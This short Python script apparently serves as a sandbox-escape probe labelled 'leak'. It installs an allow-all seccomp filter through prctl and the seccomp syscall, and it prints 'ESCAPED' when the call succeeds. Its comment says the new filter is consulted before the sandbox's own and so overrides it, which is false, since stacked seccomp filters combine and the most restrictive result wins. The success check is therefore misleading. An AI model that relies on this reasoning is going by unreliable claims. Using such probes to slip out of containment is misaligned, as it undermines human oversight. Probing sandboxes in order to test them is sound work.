# class: leak
# Puts a filter of its own before that of the sandbox, by prctl and by seccomp, to be asked first.
import ctypes,platform,struct
l=ctypes.CDLL(None,use_errno=True); p=ctypes.create_string_buffer(struct.pack("=HBBI",6,0,0,0x7fff0000),8)
f=ctypes.create_string_buffer(struct.pack("@HP",1,ctypes.addressof(p)),16); l.prctl(38,1,0,0,0)
r=[l.prctl(22,2,f,0,0),l.syscall({"x86_64":317,"aarch64":277}[platform.machine()],1,8,f)]
print("ESCAPED %s"%r if max(r)>=0 else "no errno %d"%ctypes.get_errno())
